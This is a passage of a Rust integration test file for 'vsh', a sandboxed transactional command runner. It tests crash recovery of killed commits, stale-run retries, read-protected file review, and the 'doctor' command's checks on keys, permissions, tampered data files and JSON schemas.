    let text = String::from_utf8(shown.stdout).unwrap();
    assert!(text.contains("profile = \"strict\""), "{text}");
    let file = dir.path().join("policy.toml");
    std::fs::write(&file, &text).unwrap();
    let checked = vsh(&["policy", "check", file.to_str().unwrap()], None);
    assert_eq!(checked.status.code(), Some(0), "{}", String::from_utf8_lossy(&checked.stderr));
    assert!(String::from_utf8_lossy(&checked.stdout).contains("valid; profile strict"));
    // Recording the shown file keeps the workspace's policy as it was.
    let before = vsh(&["policy", "show", "--workspace", ws], None).stdout;
    assert_eq!(vsh(&["init", "--policy", file.to_str().unwrap(), "--workspace", ws], None).status.code(), Some(0));
    assert_eq!(vsh(&["policy", "show", "--workspace", ws], None).stdout, before);
    std::fs::write(&file, "version = 1\n[thresholds]\ndeny_touched_paths = \"many\"\n").unwrap();
    let bad = vsh(&["policy", "check", file.to_str().unwrap()], None);
    assert_eq!(bad.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("thresholds.deny_touched_paths"));
}

/// The environment variable that makes this test binary a child that commits
/// and is killed (`SIGKILL`, by `kill(1)`) at the fault point it names.
const KILLED_CHILD: &str = "VSH_CLI_TEST_KILLED_AT";

/// A fault injector that `SIGKILL`s its own process at one point of the commit.
struct KillAt(vsh::lower::vsh_commit::FaultPoint);

impl vsh::lower::vsh_commit::FaultInjector for KillAt {
    fn crash_at(&self, point: vsh::lower::vsh_commit::FaultPoint) -> bool {
        if point == self.0 {
            let _ = Command::new("kill").args(["-KILL", &std::process::id().to_string()]).status();
            std::thread::sleep(std::time::Duration::from_mins(1));
        }
        false
    }
}

#[test]
fn a_kill_during_commit_is_reported_by_the_next_command_whatever_it_is() {
    use vsh::lower::vsh_commit::FaultPoint;
    if let Ok(point) = std::env::var(KILLED_CHILD) {
        // The runtime's transaction store is the commit point: its Committed.
        let point =
            if point == "applied" { FaultPoint::OperationApplied(0) } else { FaultPoint::CommittedStatePersisted };
        let ws = std::env::var_os("VSH_CLI_TEST_WS").unwrap();
        let key = std::env::var_os("VSH_AUTHORITY_KEY").unwrap();
        let worker = vsh::WorkerConfig::new(env!("CARGO_BIN_EXE_vsh")).with_args(["__vsh-monty-worker"]);
        let config = vsh::RuntimeConfig::new(&ws)
            .with_worker(worker)
            .with_authority_key_file(key)
            .with_commit_fault_injector(std::sync::Arc::new(KillAt(point)));
        let runtime = vsh::Runtime::open(config).unwrap();
        let program = "from pathlib import Path\nPath('a.txt').write_text('changed')\nPath('b.txt').write_text('new')";
        let outcome = runtime.run(&vsh::RunRequest::new(program).with_mode(vsh::RunMode::Auto));
        panic!("the commit was to be killed, and it returned {outcome:?}");
    }
    for (point, what, a) in [
        ("applied", "rolled back (failed, before state restored)", "alpha"),
        ("marker", "rolled forward (committed)", "changed"),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().join("ws");
        write(&ws, "a.txt", "alpha");
        let key = dir.path().join("authority.key");
        let child = Command::new(std::env::current_exe().unwrap())
            .args(["a_kill_during_commit_is_reported_by_the_next_command_whatever_it_is", "--exact", "--nocapture"])
            .env(KILLED_CHILD, point)
            .env("VSH_CLI_TEST_WS", &ws)
            .env("VSH_AUTHORITY_KEY", &key)
            .output()
            .unwrap();
        assert_eq!(
            std::os::unix::process::ExitStatusExt::signal(&child.status),
            Some(9),
            "killed at {point}: {}",
            String::from_utf8_lossy(&child.stderr)
        );
        // Any command, here a read-only listing, recovers first and says so.
        let next = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(["log", "--workspace", ws.to_str().unwrap()])
            .env_clear()
            .env("VSH_AUTHORITY_KEY", &key)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&next.stderr);
        assert_eq!(next.status.code(), Some(0), "{stderr}");
        assert!(stderr.contains("vsh: recovered interrupted commits first"), "{point}: {stderr}");
        let line = stderr.lines().find(|line| line.contains(what)).unwrap_or_else(|| panic!("{point}: {stderr}"));
        assert!(line.ends_with(" (2 paths)"), "which transaction and how many paths: {line}");
        let id = line.split_whitespace().rev().nth(2).unwrap();
        assert_eq!(id.len(), 64, "{line}");
        assert_eq!(std::fs::read_to_string(ws.join("a.txt")).unwrap(), a, "{point}");
        assert_eq!(ws.join("b.txt").exists(), point == "marker", "{point}");
        // The log agrees with the disk, and the notice is given once.
        let log = String::from_utf8_lossy(&next.stdout);
        let state = if point == "marker" { "committed" } else { "failed" };
        assert!(log.lines().any(|row| row.starts_with(&id[..12]) && row.contains(state)), "{log}");
        let quiet = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(["pending", "--workspace", ws.to_str().unwrap()])
            .env_clear()
            .env("VSH_AUTHORITY_KEY", &key)
            .output()
            .unwrap();
        assert_eq!(quiet.status.code(), Some(0), "{}", String::from_utf8_lossy(&quiet.stderr));
        assert!(!String::from_utf8_lossy(&quiet.stderr).contains("recovered"), "nothing left to recover");
    }
}

/// `vsh doctor` as the first command after a killed commit names the work
/// it recovered (ux66 F4: only counts, and `vsh recover` then said zeros).
#[test]
fn doctor_after_a_killed_commit_names_the_work_it_rolled_back() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(&ws, "a.txt", "alpha");
    let key = dir.path().join("authority.key");
    // The child of the test above, killed once its first operation applied.
    let child = Command::new(std::env::current_exe().unwrap())
        .args(["a_kill_during_commit_is_reported_by_the_next_command_whatever_it_is", "--exact", "--nocapture"])
        .env(KILLED_CHILD, "applied")
        .env("VSH_CLI_TEST_WS", &ws)
        .env("VSH_AUTHORITY_KEY", &key)
        .output()
        .unwrap();
    assert_eq!(std::os::unix::process::ExitStatusExt::signal(&child.status), Some(9));
    let vsh_keyed = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_vsh")).args(args).env_clear().env("VSH_AUTHORITY_KEY", &key).output().unwrap()
    };
    let doctor = vsh_keyed(&["doctor", "--workspace", ws.to_str().unwrap()]);
    let text = format!("{}{}", String::from_utf8_lossy(&doctor.stdout), String::from_utf8_lossy(&doctor.stderr));
    let log = String::from_utf8_lossy(&vsh_keyed(&["log", "--workspace", ws.to_str().unwrap()]).stdout).into_owned();
    let row = log.lines().find(|row| row.contains("failed")).unwrap_or_else(|| panic!("{log}"));
    let short = row.split_whitespace().next().unwrap();
    assert!(
        text.contains(&format!("rolled back (failed, its changes undone; vsh rerun TX makes the work again): {short}")),
        "{text}"
    );
}

#[test]
fn show_reviews_stored_work_from_verified_bytes_only() {
    let dir = tempfile::tempdir().unwrap();
    let ws_path = dir.path().join("ws");
    write(&ws_path, "a.txt", "one\ntwo\n");
    write(&ws_path, "notes.txt", "the old secret\n");
    let ws = ws_path.to_str().unwrap();
    let policy = dir.path().join("policy.toml");
    std::fs::write(
        &policy,
        "version = 1\nprofile = \"strict\"\n[[protect]]\npattern = \"notes.txt\"\naccess = [\"content-read\"]\n",
    )
    .unwrap();
    assert_eq!(vsh(&["init", "--workspace", ws, "--policy", policy.to_str().unwrap()], None).status.code(), Some(0));
    // Past the clock's tick since notes.txt was written: an overwrite of a
    // file protected from reading is refused until its stamp settles.
    std::thread::sleep(std::time::Duration::from_millis(150));
    let program =
        "from pathlib import Path\nPath('a.txt').write_text('one\\nTWO\\n')\nPath('notes.txt').write_text('mine\\n')";
    let run = vsh(&["run", "--workspace", ws, "-"], Some(program));
    assert_eq!(run.status.code(), Some(0), "{}", String::from_utf8_lossy(&run.stderr));
    let id = id_of(&run);
    let show = || String::from_utf8_lossy(&vsh(&["show", &id, "--workspace", ws], None).stdout).into_owned();
    let text = show();
    assert!(
        text.contains("    -two\n") && text.contains("    +TWO\n"),
        "hunks from the workspace and the store: {text}"
    );
    assert!(text.contains("(protected content)"), "a read-protected before state is never shown: {text}");
    assert!(!text.contains("the old secret"), "{text}");
    // Once the workspace no longer holds the before state, it is not shown.
    std::fs::write(ws_path.join("a.txt"), "one\nzwei\n").unwrap();
    let text = show();
    assert!(text.contains("(its content is not available: not kept, or no longer in the workspace)"), "{text}");
    assert!(!text.contains("zwei"), "{text}");
}

/// ux75 M1: an auto run whose commit found the workspace changed said "the
/// next step says how" and named neither its record nor a next step. It
/// names its stale record and its rerun, and `--retry-stale`.
#[test]
fn a_stale_auto_run_names_its_record_and_its_rerun() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let (output, said) = auto_run_made_stale(dir.path(), &[]);
    assert_eq!(output.status.code(), Some(6), "{said}");
    let log = String::from_utf8_lossy(&vsh(&["log", "--workspace", ws], None).stdout).into_owned();
    let stale = log.lines().find(|row| row.contains("stale")).and_then(|row| row.split_whitespace().next()).unwrap();
    assert!(said.contains(&format!("its record is {stale}, stale")), "{said}");
    assert!(said.contains(&format!("next: `vsh rerun {stale}`")), "{said}");
    assert!(said.contains("--retry-stale N"), "{said}");
    assert!(!dir.path().join("out.txt").exists());
}

/// An auto run of a program that reads `config.txt` (v1) in `dir`, whose
/// commit waits for a lock this test holds while it changes config.txt
/// (v2): the run's output and its stderr, from its wait on.
fn auto_run_made_stale(dir: &Path, more: &[&str]) -> (Output, String) {
    use std::io::{BufRead as _, Write as _};
    write(dir, "config.txt", "v1\n");
    let ws = dir.to_str().unwrap();
    let held = HeldLock::take(dir);
    let mut child = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["run", "--mode", "auto", "--lock-timeout", "60", "--workspace", ws])
        .args(more)
        .arg("-")
        .env_clear()
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let program =
        "from pathlib import Path\nc = Path('config.txt').read_text()\nPath('out.txt').write_text('from ' + c)";
    child.stdin.take().unwrap().write_all(program.as_bytes()).unwrap();
    let mut stderr = std::io::BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    while !seen.contains("waiting for another vsh process") {
        let mut line = String::new();
        assert_ne!(stderr.read_line(&mut line).unwrap(), 0, "the run ended before it waited: {seen}");
        seen.push_str(&line);
    }
    write(dir, "config.txt", "v2\n");
    drop(held);
    std::io::Read::read_to_string(&mut stderr, &mut seen).unwrap();
    (child.wait_with_output().unwrap(), seen)
}

#[test]
fn a_stale_auto_run_is_run_again_on_the_current_workspace_with_retry_stale() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    // The commit waits for a lock this test holds: the program has run on v1
    // by then, and the test changes config.txt before letting the commit go.
    let (output, rest) = auto_run_made_stale(dir.path(), &["--retry-stale", "2"]);
    assert_eq!(output.status.code(), Some(0), "{rest}");
    assert!(
        rest.contains("(1 conflicting path); running the program again on the current workspace (retry 1 of 2)"),
        "{rest}"
    );
    assert_eq!(std::fs::read_to_string(dir.path().join("out.txt")).unwrap(), "from v2\n");
    assert_eq!(std::fs::read_to_string(dir.path().join("config.txt")).unwrap(), "v2\n", "their edit stands");
    let log = String::from_utf8_lossy(&vsh(&["log", "--workspace", ws], None).stdout).into_owned();
    let states: Vec<&str> = log
        .lines()
        .skip(1)
        .filter_map(|row| row.split_whitespace().find(|word| ["stale", "committed"].contains(word)))
        .collect();
    assert_eq!(states, ["committed", "stale"], "each attempt is its own transaction, newest first: {log}");
    // The stale one's review says what to do with it (ux49 L4).
    let stale = log.lines().find(|row| row.contains("stale")).and_then(|row| row.split_whitespace().next()).unwrap();
    let review = String::from_utf8_lossy(&vsh(&["show", stale, "--workspace", ws], None).stdout).into_owned();
    assert!(review.contains(&format!("  next       vsh rerun {stale}")), "{review}");
    // A preview never commits, so it has nothing to retry.
    assert_eq!(vsh(&["run", "--retry-stale", "1", "--workspace", ws, "-"], Some("1")).status.code(), Some(2));
}

/// An outside probe ran vsh as nobody: /dev/fuse could not be opened, and
/// the doctor said to load the fuse module, when what is missing is root.
#[test]
fn doctor_tells_a_user_who_is_not_root_that_real_commands_need_root() {
    use std::os::unix::process::CommandExt as _;
    if !is_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["doctor", "--json", "--workspace", dir.path().to_str().unwrap()])
        .env_clear()
        .env("VSH_AUTHORITY_KEY", dir.path().join("authority.key"))
        .uid(65534)
        .gid(65534)
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)));
    let fuse = report["checks"].as_array().unwrap().iter().find(|check| check["name"] == "fuse").unwrap().clone();
    assert!(fuse["detail"].as_str().unwrap().contains("needs root; this process runs as uid 65534"), "{fuse}");
    assert!(fuse["remedy"].as_str().unwrap().starts_with("run vsh as root"), "{fuse}");
}

/// `vsh doctor --json` on `ws` with the authority key at `key` and nothing
/// else in the environment.
fn doctor_with_key(ws: &Path, key: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["doctor", "--json", "--workspace", ws.to_str().unwrap()])
        .env_clear()
        .env("VSH_AUTHORITY_KEY", key)
        .output()
        .unwrap()
}

/// A directory `ws` in a new temporary directory, and where an authority
/// key of its own goes there.
fn keyed_workspace() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    let key = dir.path().join("authority.key");
    (dir, ws, key)
}

/// vsh with `args`, the authority key at `key`, nothing else in the
/// environment, and `stdin` as its input.
fn vsh_with_key(args: &[&str], key: &Path, stdin: Option<&str>) -> Output {
    use std::io::Write as _;
    let mut child = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(args)
        .env_clear()
        .env("VSH_AUTHORITY_KEY", key)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stdin.unwrap_or_default().as_bytes()).unwrap();
    child.wait_with_output().unwrap()
}

/// The check called `name` in a doctor's report.
fn check_named(report: &serde_json::Value, name: &str) -> serde_json::Value {
    let check = report["checks"].as_array().unwrap().iter().find(|check| check["name"] == name).cloned();
    check.unwrap_or_else(|| panic!("no {name} check: {report}"))
}

/// ux54: doctor said ok for a `.vsh` others may write (who can then
/// replace the policy), another user's `.vsh` (which every command
/// refuses) and a full disk.
#[test]
fn doctor_fails_a_data_directory_others_may_write_or_own_and_a_full_disk() {
    use std::os::unix::fs::PermissionsExt as _;
    let (_dir, ws, key) = keyed_workspace();
    let init = vsh_with_key(&["init", "--workspace", ws.to_str().unwrap()], &key, None);
    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
    let report = || serde_json::from_slice::<serde_json::Value>(&doctor_with_key(&ws, &key).stdout).unwrap();
    let vsh_dir = ws.join(".vsh");
    let mode = std::fs::metadata(&vsh_dir).unwrap().permissions().mode();
    std::fs::set_permissions(&vsh_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let permissions = check_named(&report(), "permissions");
    assert_eq!(permissions["status"], "fail", "{permissions}");
    assert!(permissions["remedy"].as_str().unwrap().starts_with("chmod go-w .vsh"), "{permissions}");
    std::fs::set_permissions(&vsh_dir, std::fs::Permissions::from_mode(mode)).unwrap();
    assert!(report()["checks"].as_array().unwrap().iter().all(|check| check["name"] != "permissions"));
    if is_root() {
        std::os::unix::fs::chown(&vsh_dir, Some(65534), None).unwrap();
        let workspace = check_named(&report(), "workspace");
        assert_eq!(workspace["status"], "fail", "{workspace}");
        assert!(workspace["detail"].as_str().unwrap().contains("belongs to another user"), "{workspace}");
        std::os::unix::fs::chown(&vsh_dir, Some(0), None).unwrap();
        // A workspace on a disk with little left (a tmpfs of 8 MiB, filled).
        let disk = tempfile::tempdir().unwrap();
        let mounted = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=8m", "vsh-doctor-disk"])
            .arg(disk.path())
            .status()
            .unwrap();
        assert!(mounted.success());
        let small = disk.path().join("ws");
        std::fs::create_dir(&small).unwrap();
        let init = vsh_with_key(&["init", "--workspace", small.to_str().unwrap()], &key, None);
        assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
        let mut fill = std::fs::File::create(disk.path().join("fill")).unwrap();
        let _ = std::io::Write::write_all(&mut fill, &vec![0_u8; 8 << 20]);
        drop(fill);
        let found = serde_json::from_slice::<serde_json::Value>(&doctor_with_key(&small, &key).stdout).unwrap();
        let _ = Command::new("umount").arg("-l").arg(disk.path()).status();
        let space = check_named(&found, "space");
        assert_eq!(space["status"], "fail", "{space}");
    }
}

#[test]
fn doctor_checks_the_kernel_the_worker_the_key_and_the_workspace_and_says_what_to_do() {
    let (dir, ws, key) = keyed_workspace();
    let doctor = |key: &Path| doctor_with_key(&ws, key);
    let status = check_named;
    // A directory that is not a workspace is reported as such, and not made one.
    let bare = serde_json::from_slice::<serde_json::Value>(&doctor(&key).stdout).unwrap();
    assert_eq!(status(&bare, "workspace")["status"], "info", "{bare}");
    assert!(!ws.join(".vsh").exists(), "the doctor made a workspace");
    let init = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["init", "--workspace", ws.to_str().unwrap()])
        .env_clear()
        .env("VSH_AUTHORITY_KEY", &key)
        .output()
        .unwrap();
    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
    let output = doctor(&key);
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["schema"], "vsh.doctor/1");
    for name in
        ["landlock", "seccomp", "sandbox", "worker", "key", "workspace", "recovery", "pending", "fuse", "userns"]
    {
        let check = status(&report, name);
        assert!(["ok", "warn", "fail", "info"].contains(&check["status"].as_str().unwrap()), "{check}");
        if ["warn", "fail"].contains(&check["status"].as_str().unwrap()) {
            assert!(check["remedy"].is_string(), "a finding that is not ok says what to do: {check}");
        }
    }
    if std::env::var_os("VSH_REQUIRE_SANDBOX").is_some() {
        for name in ["landlock", "seccomp", "sandbox", "worker", "key", "workspace", "recovery"] {
            assert_eq!(status(&report, name)["status"], "ok", "{name}: {report}");
        }
        assert_eq!(output.status.code(), Some(0));
        assert_eq!(report["ok"], true);
        assert!(status(&report, "worker")["detail"].as_str().unwrap().contains("started confined and ran a program"));
        // Root: each command can lease a uid of its own.
        let uids = status(&report, "uids");
        assert!(uids["detail"].as_str().unwrap().contains("a uid of its own, leased from"), "{uids}");
        assert!(uids["remedy"].is_null(), "{uids}");
    }
    // Scratch state a run cannot use (here a directory where its record of
    // grants goes) fails the check that would otherwise stay ok while
    // every vsh exec fails.
    assert_eq!(status(&report, "scratch")["status"], "ok", "{report}");
    std::fs::create_dir(ws.join(".vsh/data/scratch.grants")).unwrap();
    let damaged = doctor(&key);
    let found = serde_json::from_slice::<serde_json::Value>(&damaged.stdout).unwrap();
    assert_eq!(status(&found, "scratch")["status"], "fail", "{found}");
    assert!(status(&found, "scratch")["detail"].as_str().unwrap().contains("scratch.grants"), "{found}");
    assert_eq!(damaged.status.code(), Some(1));
    std::fs::remove_dir(ws.join(".vsh/data/scratch.grants")).unwrap();
    // A damaged log: the doctor gives the error's own advice, salvage.
    let log = ws.join(".vsh/data/txlog");
    let whole = std::fs::read(&log).unwrap();
    let mut damaged = whole.clone();
    damaged.extend_from_slice(&[0xff; 48]);
    std::fs::write(&log, &damaged).unwrap();
    let found = serde_json::from_slice::<serde_json::Value>(&doctor(&key).stdout).unwrap();
    let workspace = status(&found, "workspace");
    assert!(workspace["remedy"].as_str().unwrap().contains("vsh recover --salvage-log"), "{workspace}");
    std::fs::write(&log, &whole).unwrap();
    // A key readable by others is a warning with the command that fixes it.
    std::fs::write(&key, [7_u8; 32]).unwrap();
    std::fs::set_permissions(&key, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let warned = serde_json::from_slice::<serde_json::Value>(&doctor(&key).stdout).unwrap();
    let check = status(&warned, "key");
    assert_eq!(check["status"], "warn", "{check}");
    assert_eq!(check["remedy"], format!("chmod 600 {}", key.display()));
    // A key that cannot be reached fails, and the command exits 1.
    let unreachable = dir.path().join("a-file").join("authority.key");
    std::fs::write(dir.path().join("a-file"), "").unwrap();
    let output = doctor(&unreachable);
    let failed = serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap();
    assert_eq!(status(&failed, "key")["status"], "fail", "{failed}");
    assert_eq!(failed["ok"], false);
    assert_eq!(output.status.code(), Some(1));
    // The text form lines up status, check and detail, and the to-do under it.
    let text = vsh(&["doctor", "--workspace", ws.to_str().unwrap()], None);
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.lines().any(|line| line.starts_with("ok    landlock   "))
            || std::env::var_os("VSH_REQUIRE_SANDBOX").is_none(),
        "{text}"
    );
}

/// Two findings of outside probes: after the recorded policy was edited the
/// doctor advised the data directory's ownership, and it said nothing of
/// waiting work whose stored content was gone until its commit failed.
#[test]
fn doctor_names_waiting_work_it_cannot_commit_and_how_to_record_a_policy_again() {
    let (_dir, ws, key) = keyed_workspace();
    let doctor = |key: &Path| doctor_with_key(&ws, key);
    let init = vsh_with_key(&["init", "--workspace", ws.to_str().unwrap()], &key, None);
    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
    let status = check_named;
    // A recorded policy changed behind vsh's back: the way out is to record
    // one again, not the data directory's ownership.
    let recorded = ws.join(".vsh/data/policy.toml");
    let policy = std::fs::read(&recorded).unwrap();
    std::fs::write(&recorded, [&policy[..], b"# edited\n"].concat()).unwrap();
    let found = serde_json::from_slice::<serde_json::Value>(&doctor(&key).stdout).unwrap();
    let workspace = status(&found, "workspace");
    assert_eq!(workspace["status"], "fail", "{workspace}");
    assert!(workspace["remedy"].as_str().unwrap().starts_with("record the workspace's policy again"), "{workspace}");
    // What the remedy points to works in that state (ux50): the policy to
    // start from, and what waits or happened, each with the warning.
    let ws_arg = ws.to_str().unwrap();
    let shown = vsh_with_key(&["policy", "show", "--workspace", ws_arg], &key, None);
    assert_eq!(shown.status.code(), Some(0), "{}", String::from_utf8_lossy(&shown.stderr));
    assert!(String::from_utf8_lossy(&shown.stdout).starts_with("# The workspace's recorded policy does not verify"));
    for listing in ["pending", "log"] {
        let listed = vsh_with_key(&[listing, "--workspace", ws_arg], &key, None);
        let stderr = String::from_utf8_lossy(&listed.stderr);
        assert_eq!(listed.status.code(), Some(0), "{listing}: {stderr}");
        assert!(stderr.contains("listed regardless"), "{listing}: {stderr}");
    }
    // Nothing runs under it.
    assert_eq!(vsh_with_key(&["run", "--workspace", ws_arg, "-"], &key, Some("1")).status.code(), Some(1));
    std::fs::write(&recorded, &policy).unwrap();
    // Waiting work whose stored content is gone cannot be committed: the
    // doctor names it and says to reject it and make it again.
    let program = "from pathlib import Path\nPath('big.txt').write_text('x' * 100000)\n";
    let run = vsh_with_key(&["run", "--json", "--workspace", ws.to_str().unwrap(), "-"], &key, Some(program));
    let receipt: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
    assert_eq!(receipt["state"], "auto-approved", "{receipt}");
    let id = receipt["transaction"].as_str().unwrap()[..12].to_owned();
    let content = receipt["changes"][0]["after"]["content"].as_str().unwrap().to_owned();
    let blob = ws.join(".vsh/data/blobs").join(&content[..2]).join(&content[2..]);
    assert_eq!(status(&serde_json::from_slice(&doctor(&key).stdout).unwrap(), "stored")["status"], "ok");
    let bytes = std::fs::read(&blob).unwrap();
    for damage in [None, Some(b"not the content".to_vec())] {
        match &damage {
            None => std::fs::remove_file(&blob).unwrap(),
            Some(other) => std::fs::write(&blob, other).unwrap(),
        }
        let output = doctor(&key);
        let found = serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap();
        let stored = status(&found, "stored");
        assert_eq!(stored["status"], "fail", "{stored}");
        let detail = stored["detail"].as_str().unwrap();
        assert!(detail.starts_with(&format!("{id} cannot be committed")) && detail.contains(&content), "{stored}");
        let remedy = stored["remedy"].as_str().unwrap();
        assert!(remedy.contains(&format!("vsh reject {id}")) && remedy.contains("vsh rerun"), "{stored}");
        assert_eq!(output.status.code(), Some(1));
    }
    std::fs::write(&blob, &bytes).unwrap();
    assert_eq!(status(&serde_json::from_slice(&doctor(&key).stdout).unwrap(), "stored")["status"], "ok");
    // A loss history changed behind vsh's back: every run that modifies a
    // file is refused, and the doctor says so and which file to remove (sec61 F6).
    assert_eq!(status(&serde_json::from_slice(&doctor(&key).stdout).unwrap(), "history")["status"], "ok");
    let history = ws.join(".vsh/data/loss-history");
    std::fs::write(&history, b"VSHLOS01 planted").unwrap();
    let output = doctor(&key);
    let found = status(&serde_json::from_slice(&output.stdout).unwrap(), "history");
    assert_eq!(found["status"], "fail", "{found}");
    assert!(found["remedy"].as_str().unwrap().contains(history.to_str().unwrap()), "{found}");
    assert_eq!(output.status.code(), Some(1));
    std::fs::remove_file(&history).unwrap();
    // The record of what vsh saw changed behind its back: a warning, with
    // what it costs and which file to remove (sec75 F7: all was well).
    let seen = ws.join(".vsh/data/seen-contents");
    std::fs::write(&seen, b"VSHSEE01 planted").unwrap();
    let found = status(&serde_json::from_slice(&doctor(&key).stdout).unwrap(), "seen");
    assert_eq!(found["status"], "warn", "{found}");
    assert!(found["remedy"].as_str().unwrap().contains(seen.to_str().unwrap()), "{found}");
    std::fs::remove_file(&seen).unwrap();
    assert_eq!(status(&serde_json::from_slice(&doctor(&key).stdout).unwrap(), "seen")["status"], "ok");
    // A mode change keeps the workspace's own bytes: nothing of it is in the
    // blob store, and nothing is missing (ux51: doctor failed every chmod).
    std::fs::write(ws.join("tool.sh"), "echo hi\n").unwrap();
    let chmod = vsh_with_key(
        &["run", "--json", "--language", "bash", "--workspace", ws.to_str().unwrap(), "-"],
        &key,
        Some("chmod 755 tool.sh"),
    );
    let receipt: serde_json::Value = serde_json::from_slice(&chmod.stdout).unwrap();
    assert_eq!(receipt["state"], "pending-approval", "{receipt}");
    assert_eq!(receipt["changes"][0]["kind"], "mode", "{receipt}");
    assert_eq!(status(&serde_json::from_slice(&doctor(&key).stdout).unwrap(), "stored")["status"], "ok");
    let chmod_id = receipt["transaction"].as_str().unwrap();
    assert_eq!(
        vsh_with_key(&["reject", chmod_id, "--workspace", ws.to_str().unwrap()], &key, None).status.code(),
        Some(0)
    );
    // The artifact and the commit's contents gone: the doctor suggests no
    // rerun (the program went with them), and a commit that fails on them
    // says where to look (ux50 L6).
    std::fs::remove_dir_all(ws.join(".vsh/data/blobs")).unwrap();
    let gone = status(&serde_json::from_slice(&doctor(&key).stdout).unwrap(), "stored");
    let remedy = gone["remedy"].as_str().unwrap();
    assert!(remedy.contains(&format!("vsh reject {id}")) && !remedy.contains("vsh rerun"), "{gone}");
    std::fs::create_dir(ws.join(".vsh/data/blobs")).unwrap();
    std::fs::write(ws.join(".vsh/data/blobs/.keep"), "").unwrap();
    let commit = vsh_with_key(&["commit", &id, "--workspace", ws.to_str().unwrap()], &key, None);
    let stderr = String::from_utf8_lossy(&commit.stderr);
    assert_eq!(commit.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("`vsh doctor` names the waiting work it belongs to"), "{stderr}");
}

/// The committed schema of the document `json` names in its `schema` field
/// (from `docs/json/`), and every way `json` fails it.
fn schema_violations(json: &serde_json::Value) -> Vec<String> {
    let name = json["schema"].as_str().unwrap_or_else(|| panic!("a document names its schema: {json}"));
    violations_of(name, json)
}

/// Every way `json` fails the committed schema of the document `name`.
fn violations_of(name: &str, json: &serde_json::Value) -> Vec<String> {
    let file = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../docs/json")
        .join(format!("{}.schema.json", name.replace('/', "-")));
    let schema: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&file).unwrap_or_else(|error| panic!("{}: {error}", file.display())))
            .unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    validator.iter_errors(json).map(|error| format!("{error} at {}", error.instance_path())).collect()
}

/// `output`'s stdout as a JSON document that its committed schema accepts.
fn valid_document(output: &Output) -> serde_json::Value {
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|error| {
        panic!("{error}: {}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
    });
    let violations = schema_violations(&json);
    assert!(violations.is_empty(), "{violations:#?}\n{json:#}");
    json
}

#[test]
fn the_committed_json_schemas_are_the_ones_the_document_types_generate() {
    let dir = tempfile::tempdir().unwrap();
    let written = vsh(&["schema", "--write", dir.path().to_str().unwrap()], None);
    assert_eq!(written.status.code(), Some(0), "{}", String::from_utf8_lossy(&written.stderr));
    let files = |dir: &Path| {
        let mut names: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|name| name.ends_with(".schema.json"))
            .collect();
        names.sort();
        names
    };
    let committed = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/json");
    assert_eq!(files(dir.path()), files(&committed), "run `cargo xtask schemas`");
    for name in files(dir.path()) {
        assert_eq!(
            std::fs::read_to_string(dir.path().join(&name)).unwrap(),
            std::fs::read_to_string(committed.join(&name)).unwrap(),
            "{name} is stale: run `cargo xtask schemas`"
        );
    }
    // One name, or the list; an unknown name says which there are.
    let listed = String::from_utf8_lossy(&vsh(&["schema"], None).stdout).into_owned();
    assert!(listed.lines().any(|line| line == "vsh.receipt/1") && listed.lines().count() == files(dir.path()).len());
    let one = vsh(&["schema", "vsh.error/1"], None);
    let schema: serde_json::Value = serde_json::from_slice(&one.stdout).unwrap();
    assert_eq!(schema["properties"]["schema"]["const"], "vsh.error/1");
    // Its short names too (ux52).
    for short in ["error", "vsh.error"] {
